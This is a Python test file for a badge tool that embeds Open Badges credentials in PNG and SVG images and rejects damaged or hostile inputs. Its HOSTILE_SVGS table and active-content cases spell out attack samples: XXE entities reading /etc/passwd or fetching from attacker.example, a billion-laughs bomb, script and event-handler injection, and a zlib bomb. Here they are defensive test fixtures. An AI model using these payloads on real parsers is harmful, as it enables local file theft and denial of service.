"""Baked badges (Open Badges 3.0 §5.3): bake -> unbake -> verify for PNG and SVG, and every way
an image from a stranger can be hostile or damaged, each refused with its named reason.

The interop with another implementation (openbadgeslib) and badge-platform exports are in
tests/test_badge_interop.py.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from PIL import Image

from conftest import REPO
from skillcred import badge
from skillcred.badge import OB3_NAMESPACE, PNG_KEYWORD, bake, plain_badge, unbake
from skillcred.errors import BadgeInvalid, MalformedDocument, WalletError
from skillcred.issuer import Issuer, load_achievement
from skillcred.secured import SecuredCredential
from skillcred.verify import Verifier
from skillcred.wallet import Wallet
from support.cli import CliResult, run_cli, user_env

ACHIEVEMENTS = REPO / "examples" / "achievements"
PASSPHRASE = "badge test passphrase"
PNG_SIG = b"\x89PNG\r\n\x1a\n"


# -- fixtures and helpers ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def holder(tmp_path_factory: pytest.TempPathFactory) -> str:
    return Wallet.init(tmp_path_factory.mktemp("w") / "wallet", passphrase=None).holder


@pytest.fixture(scope="module")
def di_credential(issuer: Issuer, holder: str) -> dict[str, Any]:
    record, _ = issuer.issue(load_achievement(ACHIEVEMENTS / "mig-mag-lassen.yaml"), holder, level="2")
    return record.document


@pytest.fixture(scope="module")
def jwt_credential(issuer: Issuer, holder: str) -> SecuredCredential:
    record, _ = issuer.issue(load_achievement(ACHIEVEMENTS / "cnc-programmeren.yaml"), holder, level="3", fmt="jwt")
    return SecuredCredential.from_record(record.document)


def reason(data: bytes) -> str:
    with pytest.raises(BadgeInvalid) as info:
        unbake(data, source="badge.img")
    assert info.value.path == "badge.img"
    assert info.value.reason in str(info.value)
    return info.value.reason


def chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out, pos = [], 8
    while pos < len(png):
        (n,) = struct.unpack(">I", png[pos:pos + 4])
        out.append((png[pos + 4:pos + 8], png[pos + 8:pos + 8 + n]))
        pos += 12 + n
    return out


def chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body) & 0xFFFFFFFF)


def png_with(*extra: bytes) -> bytes:
    """The plain PNG with raw chunks inserted before IEND."""
    png = plain_badge("png")
    return png[:-12] + b"".join(extra) + png[-12:]


def itxt(text: bytes, *, keyword: bytes = PNG_KEYWORD, flag: int = 0) -> bytes:
    return chunk(b"iTXt", keyword + b"\x00" + bytes([flag, 0]) + b"\x00\x00" + text)


def svg(inner: str = "", *, head: str = "", attrs: str = "") -> bytes:
    return (f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'width="10" height="10"{attrs}>{inner}<circle r="4"/></svg>').encode()


def verified(doc: dict[str, Any] | SecuredCredential) -> bool:
    target = doc.envelope() if isinstance(doc, SecuredCredential) else doc
    report = Verifier().check(target)
    wanted = {"proof", "issuer", "contexts", "shape"}
    return all(c.ok for c in report.checks if c.family in wanted) and any(c.family == "proof" for c in report.checks)


# -- round trips -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_di_credential_round_trips_and_still_verifies(fmt: badge.BadgeFormat, di_credential: dict[str, Any]) -> None:
    baked = bake(plain_badge(fmt, "MIG/MAG"), di_credential)
    found = unbake(baked)
    assert found.image_format == fmt and not found.is_token
    assert found.credential == di_credential
    assert verified(found.credential)


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_jwt_credential_round_trips_as_the_same_token(
    fmt: badge.BadgeFormat, jwt_credential: SecuredCredential,
) -> None:
    found = unbake(bake(plain_badge(fmt), jwt_credential))
    assert found.is_token and found.text == jwt_credential.token
    assert isinstance(found.credential, SecuredCredential) and found.credential.format == "jwt"
    assert verified(found.credential)


def test_tampered_credential_in_a_badge_does_not_verify(di_credential: dict[str, Any]) -> None:
    baked = bake(plain_badge("png"), di_credential)
    (_, body), = [c for c in chunks(baked) if c[0] == b"iTXt"]
    forged = body.replace(b"Niveau 2", b"Niveau 4")
    assert forged != body
    png = b"".join([PNG_SIG, *(chunk(t, forged if t == b"iTXt" else b) for t, b in chunks(baked))])
    assert not verified(unbake(png).credential)


def test_png_keeps_every_original_chunk_and_is_still_an_image(di_credential: dict[str, Any]) -> None:
    original = plain_badge("png")
    baked = bake(original, di_credential)
    before, after = chunks(original), chunks(baked)
    assert [c for c in after if c[0] != b"iTXt"] == before
    assert after[-1][0] == b"IEND" and after[-2][0] == b"iTXt"
    body = after[-2][1]
    assert body.startswith(PNG_KEYWORD + b"\x00\x00\x00\x00\x00")  # uncompressed, no language, no translation
    with Image.open(io.BytesIO(baked)) as img:
        img.load()
        assert img.size == (128, 128)


def test_svg_element_is_first_in_the_root_in_the_ob3_namespace(
    di_credential: dict[str, Any], jwt_credential: SecuredCredential,
) -> None:
    root = ElementTree.fromstring(bake(svg(), di_credential))
    first = root[0]
    assert first.tag == f"{{{OB3_NAMESPACE}}}credential"
    assert first.get("verify") is None and json.loads(first.text or "") == di_credential
    assert b"<![CDATA[" in bake(svg(), di_credential)
    jroot = ElementTree.fromstring(bake(svg(), jwt_credential))
    assert jroot[0].get("verify") == jwt_credential.token and not (jroot[0].text or "").strip()
    assert [el.tag.rsplit("}", 1)[-1] for el in jroot] == ["credential", "circle"]  # the image itself is kept


def test_svg_json_holding_a_cdata_terminator_round_trips(di_credential: dict[str, Any]) -> None:
    doc = json.loads(json.dumps(di_credential))
    doc["name"] = "odd ]]> name & <tag>"
    assert unbake(bake(svg(), doc)).credential == doc


def test_a_prefix_other_than_openbadges_is_read_by_namespace(di_credential: dict[str, Any]) -> None:
    text = json.dumps(di_credential)
    other = svg(f'<ob:credential xmlns:ob="{OB3_NAMESPACE}"><![CDATA[{text}]]></ob:credential>')
    assert unbake(other).credential == di_credential
    wrong_ns = svg(f'<openbadges:credential xmlns:openbadges="https://example.com/ob"><![CDATA[{text}]]>'
                   '</openbadges:credential>')
    assert reason(wrong_ns) == "no_credential"


# -- more than one credential, none, the wrong kind ---------------------------------------------


def test_png_with_two_credentials_is_refused(di_credential: dict[str, Any]) -> None:
    text = json.dumps(di_credential).encode()
    assert reason(png_with(itxt(text), itxt(text))) == "several_credentials"
    assert reason(png_with(itxt(text), itxt(b"eyJ.eyJ.sig"))) == "several_credentials"
    baked = bake(plain_badge("png"), di_credential)  # a second chunk after a baked one, anywhere
    assert reason(baked[:33] + itxt(text) + baked[33:]) == "several_credentials"


def test_svg_with_two_credentials_is_refused(di_credential: dict[str, Any]) -> None:
    one = f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}" verify="a.b.c"/>'
    assert reason(svg(one + one)) == "several_credentials"
    nested = f'<g>{one}</g>{one}'
    assert reason(svg(nested)) == "several_credentials"


def test_image_with_no_credential_or_of_ob2(di_credential: dict[str, Any]) -> None:
    assert reason(plain_badge("png")) == "no_credential"
    assert reason(plain_badge("svg")) == "no_credential"
    assert reason(png_with(itxt(b"eyJ.eyJ.x", keyword=b"openbadges"))) == "ob2_badge"
    assert reason(svg('<openbadges:assertion xmlns:openbadges="http://openbadges.org" verify="a.b.c"/>')) == "ob2_badge"
    assert reason(png_with(chunk(b"tEXt", PNG_KEYWORD + b"\x00" + json.dumps(di_credential).encode()))) == \
        "png_malformed"


@pytest.mark.parametrize("data", [b"\xff\xd8\xff\xe0JFIF", b"GIF89a....", b"", b"{\"a\": 1}",
                                  b"<?xml version='1.0'?><html/>"])
def test_not_a_badge_image(data: bytes) -> None:
    assert reason(data) == "not_a_badge_image"


def test_xml_that_is_not_an_svg_root_is_refused() -> None:
    assert reason(b'<?xml version="1.0"?><html><svg xmlns="http://www.w3.org/2000/svg"/></html>') == \
        "not_a_badge_image"


@pytest.mark.parametrize("text", [b"not json at all", b"{broken", b"[1, 2]", b"{\"a\": 1, \"a\": 2}",
                                  b"   ", b"\xff\xfe bytes", b"eyJ.eyJ"])
def test_malformed_credential_text_is_refused(text: bytes) -> None:
    assert reason(png_with(itxt(text))) == "credential_malformed"


def test_svg_with_both_a_verify_attribute_and_text_is_refused() -> None:
    both = svg(f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}" verify="a.b.c">{{}}'
               '</openbadges:credential>')
    assert reason(both) == "credential_malformed"


def test_a_baked_presentation_is_not_a_credential() -> None:
    vp = {"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiablePresentation"]}
    header = base64.urlsafe_b64encode(b'{"alg":"EdDSA","typ":"vp+jwt"}').rstrip(b"=")
    payload = base64.urlsafe_b64encode(json.dumps(vp).encode()).rstrip(b"=")
    assert reason(png_with(itxt(header + b"." + payload + b".c2ln"))) == "not_a_credential"


# -- damaged PNGs ------------------------------------------------------------------------------


def test_truncated_png_is_refused_wherever_it_is_cut(di_credential: dict[str, Any]) -> None:
    baked = bake(plain_badge("png"), di_credential)
    for cut in (9, 20, 33, 40, len(baked) // 2, len(baked) - 13, len(baked) - 12, len(baked) - 1):
        assert reason(baked[:cut]) == "png_truncated", cut


def test_png_with_a_corrupt_chunk_fails_its_crc(di_credential: dict[str, Any]) -> None:
    baked = bake(plain_badge("png"), di_credential)
    layout, pos = [], 8
    for ctype, body in chunks(baked):
        layout.append((ctype, pos))
        pos += 12 + len(body)
    itxt_at = dict(layout)[b"iTXt"]
    idat_at = dict(layout)[b"IDAT"]
    for offset in (idat_at + 8 + 5, itxt_at + 8 + 40, itxt_at + 8 + len(PNG_KEYWORD) + 10, len(baked) - 14,
                   16 + 2):
        damaged = bytearray(baked)
        damaged[offset] ^= 0x01
        assert reason(bytes(damaged)) == "png_crc_mismatch", offset


def test_huge_chunk_is_refused_before_it_is_read() -> None:
    png = plain_badge("png")
    for length in (2**31 - 1, 2**32 - 1, badge.MAX_BADGE_BYTES + 1):
        huge = struct.pack(">I", length) + b"iTXt" + PNG_KEYWORD + b"\x00"
        assert reason(png[:-12] + huge) == "png_chunk_too_large", length


def test_credential_longer_than_a_credential_file_may_be(monkeypatch: pytest.MonkeyPatch,
                                                         di_credential: dict[str, Any]) -> None:
    monkeypatch.setattr(badge, "MAX_CREDENTIAL_BYTES", 1000)
    text = json.dumps(di_credential).encode()
    assert len(text) > 1000
    assert reason(png_with(itxt(text))) == "credential_too_large"
    assert reason(svg(f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}"><![CDATA[{text.decode()}]]>'
                      '</openbadges:credential>')) == "credential_too_large"


def test_image_larger_than_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(badge, "MAX_BADGE_BYTES", 100)
    assert reason(plain_badge("png")) == "image_too_large"


def test_compressed_credential_chunk_is_refused(di_credential: dict[str, Any]) -> None:
    """OB 3.0 bakes uncompressed, and a zlib bomb is never inflated."""
    bomb = zlib.compress(b"{" + b" " * 10_000_000 + b"}", 9)
    assert reason(png_with(itxt(bomb, flag=1))) == "png_compressed_credential"
    assert reason(png_with(itxt(zlib.compress(json.dumps(di_credential).encode()), flag=1))) == \
        "png_compressed_credential"


def test_png_without_ihdr_first_or_with_a_bad_chunk_type() -> None:
    assert reason(PNG_SIG + chunk(b"IDAT", b"x") + chunk(b"IEND", b"")) == "png_malformed"
    png = plain_badge("png")
    assert reason(png[:-12] + chunk(b"i\x00Xt", b"") + png[-12:]) == "png_malformed"
    assert reason(png_with(chunk(b"iTXt", PNG_KEYWORD + b"\x00"))) == "png_malformed"  # cut after the keyword
    assert reason(png_with(chunk(b"iTXt", PNG_KEYWORD + b"\x00\x00\x00no-separators"))) == "png_malformed"


# -- hostile SVGs ------------------------------------------------------------------------------


HOSTILE_SVGS = {
    "xxe_file": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                 '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>', "svg_dtd_forbidden"),
    "xxe_http": ('<!DOCTYPE svg [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
                 '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>', "svg_dtd_forbidden"),
    "billion_laughs": ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                       '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                       '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                       '<svg xmlns="http://www.w3.org/2000/svg"><text>&lol3;</text></svg>', "svg_dtd_forbidden"),
    "parameter_entity": ('<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
                         '<svg xmlns="http://www.w3.org/2000/svg"/>', "svg_dtd_forbidden"),
    "external_dtd": ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                     '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
                     "svg_dtd_forbidden"),
    "doctype_only": ('<!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>', "svg_dtd_forbidden"),
    "image_href": (svg('<image href="https://tracker.example/pixel.png"/>').decode(), "svg_external_reference"),
    "xlink_href": (svg('<image xlink:href="http://tracker.example/p.png"/>').decode(), "svg_external_reference"),
    "use_external_fragment": (svg('<use xlink:href="https://evil.example/sprites.svg#icon"/>').decode(),
                              "svg_external_reference"),
    "file_href": (svg('<image href="file:///etc/passwd"/>').decode(), "svg_external_reference"),
    "protocol_relative": (svg('<image href="//evil.example/x.png"/>').decode(), "svg_external_reference"),
    "spaced_uppercase": (svg('<a href="  HTTPS://EVIL.EXAMPLE/"><circle r="1"/></a>').decode(),
                         "svg_external_reference"),
    "javascript_href": (svg('<a href="javascript:alert(1)"><circle r="1"/></a>').decode(), "svg_external_reference"),
    "xinclude": (svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>').decode(),
                 "svg_external_reference"),
    "css_import": (svg('<style>@import "https://evil.example/a.css";</style>').decode(), "svg_external_reference"),
    "css_url_in_style_element": (svg("<style>circle { fill: url(https://evil.example/p.svg#g) }</style>").decode(),
                                 "svg_external_reference"),
    "css_url_in_style_attribute": (svg('<rect style="fill: URL( \'//evil.example/x.png\' )"/>').decode(),
                                   "svg_external_reference"),
    "css_url_in_presentation_attribute": (svg('<rect fill="url(http://evil.example/g.svg#x)"/>').decode(),
                                          "svg_external_reference"),
    "not_well_formed": ('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "svg_malformed"),
    "undefined_entity": ('<svg xmlns="http://www.w3.org/2000/svg"><text>&nope;</text></svg>', "svg_malformed"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SVGS))
def test_hostile_svg_is_refused_with_its_reason(name: str, di_credential: dict[str, Any]) -> None:
    text, expected = HOSTILE_SVGS[name]
    # even when the hostile part sits next to a perfectly good credential
    cred = (f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}">'
            f'<![CDATA[{json.dumps(di_credential)}]]></openbadges:credential>')
    armed = text.replace("</svg>", cred + "</svg>") if "</svg>" in text else text.replace("/>", f">{cred}</svg>", 1)
    assert reason(armed.encode()) == expected
    with pytest.raises(BadgeInvalid) as info:  # and it is never baked into either
        bake(text.encode(), di_credential)
    assert info.value.reason == expected


def test_fragment_and_data_references_are_fine(di_credential: dict[str, Any]) -> None:
    pixel = base64.b64encode(plain_badge("png")).decode()
    ok = svg(f'<defs><linearGradient id="g"/><circle id="c" r="2"/></defs><use href="#c"/><use xlink:href="#c"/>'
             f'<image href="data:image/png;base64,{pixel}"/><rect fill="url(#g)" style="stroke: url( \'#g\' )"/>'
             '<style>rect { fill: url(#g) }</style>')
    assert unbake(bake(ok, di_credential)).credential == di_credential


@pytest.mark.parametrize("inner,attrs", [
    ("<script>alert(1)</script>", ""),
    ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', ""),
    ("", ' onload="alert(1)"'),
    ('<circle r="1" onclick="steal()"/>', ""),
    ('<SCRIPT>alert(1)</SCRIPT>', ""),
])
def test_baking_refuses_an_svg_with_active_content(inner: str, attrs: str, di_credential: dict[str, Any]) -> None:
    with pytest.raises(BadgeInvalid) as info:
        bake(svg(inner, attrs=attrs), di_credential)
    assert info.value.reason == "svg_active_content"


# -- baking refusals ---------------------------------------------------------------------------


def test_baking_twice_is_refused(di_credential: dict[str, Any], jwt_credential: SecuredCredential) -> None:
    for fmt in ("png", "svg"):
        once = bake(plain_badge(fmt), di_credential)
        with pytest.raises(BadgeInvalid) as info:
            bake(once, jwt_credential)
        assert info.value.reason == "already_baked"


def test_only_signed_credentials_in_a_bakeable_format(di_credential: dict[str, Any]) -> None:
    unsigned = {k: v for k, v in di_credential.items() if k != "proof"}
    cases: list[tuple[Any, str]] = [
        (unsigned, "credential_unsigned"),
        ({"type": ["VerifiablePresentation"], "proof": {}}, "not_a_credential"),
        (SecuredCredential("sd-jwt", {"type": ["VerifiableCredential"]}, "a.b.c~"), "credential_format_unsupported"),
        (SecuredCredential("jwt", {"type": ["VerifiablePresentation"]}, "a.b.c", presentation=True),
         "not_a_credential"),
    ]
    for cred, expected in cases:
        with pytest.raises(BadgeInvalid) as info:
            bake(plain_badge("png"), cred)
        assert info.value.reason == expected
    with pytest.raises(BadgeInvalid) as info:
        bake(b"\xff\xd8\xff\xe0 a jpeg", di_credential)
    assert info.value.reason == "not_a_badge_image"


def test_badge_invalid_is_a_malformed_document_with_a_stable_code() -> None:
    err = BadgeInvalid("png_truncated", "cut short", path="x.png")
    assert isinstance(err, MalformedDocument) and isinstance(err, ValueError)
    assert err.code == "badge_invalid" and err.to_dict()["reason"] == "png_truncated"
    assert str(err) == "x.png: cut short (png_truncated)"


# -- images: the achievement's own, or a generated one -----------------------------------------


def test_achievement_data_uri_image_is_the_default(di_credential: dict[str, Any]) -> None:
    own = svg('<rect width="3" height="3"/>')
    doc = json.loads(json.dumps(di_credential))
    doc["credentialSubject"]["achievement"]["image"] = {
        "id": "data:image/svg+xml;base64," + base64.b64encode(own).decode(), "type": "Image"}
    assert badge.achievement_image(doc) == ("svg", own)
    assert badge.default_image(doc, "svg") == own
    assert badge.default_image(doc, "png").startswith(PNG_SIG)  # not the SVG: a generated PNG
    png = plain_badge("png")
    doc["credentialSubject"]["achievement"]["image"] = "data:image/png;base64," + base64.b64encode(png).decode()
    assert badge.default_image(doc) == png


@pytest.mark.parametrize("image", [
    {"id": "https://roc.example/badge.png", "type": "Image"},  # never fetched
    {"id": "data:image/png;base64,!!!not-base64", "type": "Image"},
    {"id": "data:image/gif;base64,R0lGODlh", "type": "Image"},
    {"id": "data:image/png;base64," + base64.b64encode(b"not a png").decode(), "type": "Image"},
    None,
])
def test_without_a_usable_achievement_image_a_plain_badge_is_made(image: Any, di_credential: dict[str, Any]) -> None:
    doc = json.loads(json.dumps(di_credential))
    doc["credentialSubject"]["achievement"]["image"] = image
    assert badge.achievement_image(doc) is None
    made = badge.default_image(doc, "svg")
    assert made == plain_badge("svg", "MIG/MAG-lassen")
    assert unbake(bake(made, doc)).credential == doc


def test_generated_images_are_valid_and_escape_the_title() -> None:
    with Image.open(io.BytesIO(plain_badge("png"))) as img:
        img.load()
        assert img.mode == "RGBA"
        assert img.getpixel((64, 64)) == (0x1F, 0x4E, 0x79, 255) and img.getpixel((0, 0)) == (0, 0, 0, 0)
    made = plain_badge("svg", 'Lassen <script>alert("x")</script> & co')
    assert b"<script>" not in made
    root = ElementTree.fromstring(made)
    assert "Lassen <script>" in "".join(root.itertext())


# -- wallet ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_wallet_adds_a_baked_badge_verified(tmp_path: Path, issuer: Issuer, fmt: badge.BadgeFormat) -> None:
    from skillcred.wallet import read_credentials_input

    w = Wallet.init(tmp_path / "w", passphrase=None)
    record, _ = issuer.issue(load_achievement(ACHIEVEMENTS / "mig-mag-lassen.yaml"), w.holder, level="2")
    jrecord, _ = issuer.issue(load_achievement(ACHIEVEMENTS / "cnc-programmeren.yaml"), w.holder, level="3",
                              fmt="jwt")
    docs = [*read_credentials_input(bake(plain_badge(fmt), record.document), f"a.{fmt}"),
            *read_credentials_input(bake(plain_badge(fmt), SecuredCredential.from_record(jrecord.document)),
                                    f"b.{fmt}")]
    added = w.add(docs)
    assert {e.id for e in added} == {record.id, jrecord.id}
    forged = bake(plain_badge(fmt), {**record.document, "id": "urn:uuid:forged"})
    with pytest.raises(WalletError, match="does not verify"):
        w.add(read_credentials_input(forged, "forged"))


# -- CLI ---------------------------------------------------------------------------------------


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    return user_env(tmp_path, SKILLCRED_PASSPHRASE=PASSPHRASE)


def run(env: dict[str, str], *args: str) -> CliResult:
    return run_cli(*args, env=env)


def assert_oneline(proc: CliResult, *needles: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("skillcred: error:"), proc.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]


def test_cli_issue_bake_then_wallet_add_and_unbake(tmp_path: Path, env: dict[str, str]) -> None:
    assert run(env, "issuer", "init", str(tmp_path / "roc"), "--name", "ROC", "--url", "https://roc.example"
               ).returncode == 0
    holder = run(env, "wallet", "init", "--wallet", str(tmp_path / "w")).stdout.strip()
    base = ["issue", "--issuer", str(tmp_path / "roc"), "--achievement", str(ACHIEVEMENTS / "cnc-programmeren.yaml"),
            "--subject", holder, "--level", "3"]
    r = run(env, *base, "-o", str(tmp_path / "c.json"), "--bake", str(tmp_path / "c.png"))
    assert r.returncode == 0, r.stderr
    doc = json.loads((tmp_path / "c.json").read_text())
    assert unbake((tmp_path / "c.png").read_bytes()).credential == doc
    r = run(env, *base, "--format", "jwt", "-o", str(tmp_path / "c.jwt"), "--bake", str(tmp_path / "c.svg"))
    assert r.returncode == 0, r.stderr
    token = (tmp_path / "c.jwt").read_text().strip()
    r = run(env, "badge", "unbake", str(tmp_path / "c.svg"))
    assert r.returncode == 0 and r.stdout.strip() == token
    r = run(env, "badge", "unbake", str(tmp_path / "c.png"))
    assert r.returncode == 0 and json.loads(r.stdout) == doc
    r = run(env, "wallet", "add", "--wallet", str(tmp_path / "w"), str(tmp_path / "c.png"), str(tmp_path / "c.svg"))
    assert r.returncode == 0, r.stderr
    assert r.stdout.count("added ") == 2


def test_cli_issue_bake_refusals_issue_nothing(tmp_path: Path, env: dict[str, str]) -> None:
    run(env, "issuer", "init", str(tmp_path / "roc"), "--name", "ROC", "--url", "https://roc.example")
    holder = run(env, "wallet", "init", "--wallet", str(tmp_path / "w")).stdout.strip()
    (tmp_path / "in.svg").write_bytes(plain_badge("svg"))
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0 jpeg")
    base = ["issue", "--issuer", str(tmp_path / "roc"), "--achievement", str(ACHIEVEMENTS / "cnc-programmeren.yaml"),
            "--subject", holder, "--level", "3", "-o", str(tmp_path / "c.json")]
    assert_oneline(run(env, *base, "--bake", str(tmp_path / "b.png"), "--bake-image", str(tmp_path / "in.svg")),
                   "is a SVG", "nothing issued")
    assert_oneline(run(env, *base, "--bake", str(tmp_path / "b.png"), "--bake-image", str(tmp_path / "photo.jpg")),
                   "not a PNG or SVG", "nothing issued")
    assert_oneline(run(env, *base, "--format", "sd-jwt", "--bake", str(tmp_path / "b.png")), "SD-JWT",
                   "nothing issued")
    assert_oneline(run(env, *base, "--bake", str(tmp_path / "missing" / "b.png")), "nothing issued")
    assert_oneline(run(env, *base, "--bake-image", str(tmp_path / "in.svg")), "--bake-image needs --bake")
    assert not (tmp_path / "c.json").exists()
    listed = run(env, "issuer", "list", str(tmp_path / "roc"), "--json")
    assert listed.returncode == 0 and listed.stdout.strip() in ("", "[]")  # nothing was recorded


def test_cli_badge_bake_with_an_image_and_by_default(tmp_path: Path, env: dict[str, str], issuer: Issuer,
                                                    di_credential: dict[str, Any]) -> None:
    cred = tmp_path / "c.json"
    cred.write_text(json.dumps(di_credential))
    (tmp_path / "in.png").write_bytes(plain_badge("png"))
    r = run(env, "badge", "bake", str(cred), "--image", str(tmp_path / "in.png"), "-o", str(tmp_path / "out.png"))
    assert r.returncode == 0, r.stderr
    assert unbake((tmp_path / "out.png").read_bytes()).credential == di_credential
    r = run(env, "badge", "bake", str(cred), "-o", str(tmp_path / "gen.svg"))
    assert r.returncode == 0, r.stderr
    assert unbake((tmp_path / "gen.svg").read_bytes()).image_format == "svg"
    assert_oneline(run(env, "badge", "bake", str(cred), "--image", str(tmp_path / "in.png"), "-o",
                       str(tmp_path / "x.svg")), "is a PNG", "*.png")
    assert not (tmp_path / "x.svg").exists()
    assert_oneline(run(env, "badge", "bake", str(cred), "--image", str(tmp_path / "out.png"), "-o",
                       str(tmp_path / "y.png")), "already_baked")
    listing = tmp_path / "two.json"
    listing.write_text(json.dumps([di_credential, di_credential]))
    assert_oneline(run(env, "badge", "bake", str(listing), "-o", str(tmp_path / "z.png")), "holds 2 credentials")


@pytest.mark.parametrize("name", ["xxe_file", "billion_laughs", "image_href"])
def test_cli_hostile_badge_is_one_line_and_changes_nothing(tmp_path: Path, env: dict[str, str], name: str) -> None:
    wallet = tmp_path / "w"
    run(env, "wallet", "init", "--wallet", str(wallet))
    bad = tmp_path / "bad.svg"
    bad.write_text(HOSTILE_SVGS[name][0])
    before = sorted(p.name for p in (wallet / "credentials").glob("*")) if (wallet / "credentials").exists() else []
    assert_oneline(run(env, "wallet", "add", "--wallet", str(wallet), str(bad)), "bad.svg", HOSTILE_SVGS[name][1])
    assert_oneline(run(env, "badge", "unbake", str(bad)), "bad.svg", HOSTILE_SVGS[name][1])
    after = sorted(p.name for p in (wallet / "credentials").glob("*")) if (wallet / "credentials").exists() else []
    assert before == after


def test_cli_damaged_png_is_one_line(tmp_path: Path, env: dict[str, str], di_credential: dict[str, Any]) -> None:
    baked = bake(plain_badge("png"), di_credential)
    (tmp_path / "cut.png").write_bytes(baked[: len(baked) // 2])
    assert_oneline(run(env, "badge", "unbake", str(tmp_path / "cut.png")), "cut.png", "png_truncated")
    (tmp_path / "two.png").write_bytes(png_with(itxt(b"{}"), itxt(b"{}")))
    assert_oneline(run(env, "badge", "unbake", str(tmp_path / "two.png")), "two.png", "several_credentials")


def test_cli_issue_bake_uses_the_achievement_image(tmp_path: Path, env: dict[str, str]) -> None:
    import yaml

    own = svg('<rect width="4" height="4" fill="#c00"/>')
    spec = yaml.safe_load((ACHIEVEMENTS / "heftruck-certificaat.yaml").read_text(encoding="utf-8"))
    spec["achievement"]["image"] = {"id": "data:image/svg+xml;base64," + base64.b64encode(own).decode(),
                                    "type": "Image"}
    (tmp_path / "heftruck.yaml").write_text(yaml.safe_dump(spec), encoding="utf-8")
    run(env, "issuer", "init", str(tmp_path / "roc"), "--name", "ROC", "--url", "https://roc.example")
    holder = run(env, "wallet", "init", "--wallet", str(tmp_path / "w")).stdout.strip()
    base = ["issue", "--issuer", str(tmp_path / "roc"), "--achievement", str(tmp_path / "heftruck.yaml"),
            "--subject", holder]
    r = run(env, *base, "-o", str(tmp_path / "h.json"), "--bake", str(tmp_path / "h.svg"))
    assert r.returncode == 0, r.stderr
    root = ElementTree.fromstring((tmp_path / "h.svg").read_bytes())
    assert root.get("width") == "10" and [el.tag.rsplit("}", 1)[-1] for el in root] == ["credential", "rect", "circle"]
    r = run(env, *base, "-o", str(tmp_path / "h2.json"), "--bake", str(tmp_path / "h2.png"))  # the image is an SVG
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "h2.png").read_bytes()[:8] == PNG_SIG  # so a generated PNG
    assert unbake((tmp_path / "h2.png").read_bytes()).credential == json.loads((tmp_path / "h2.json").read_text())
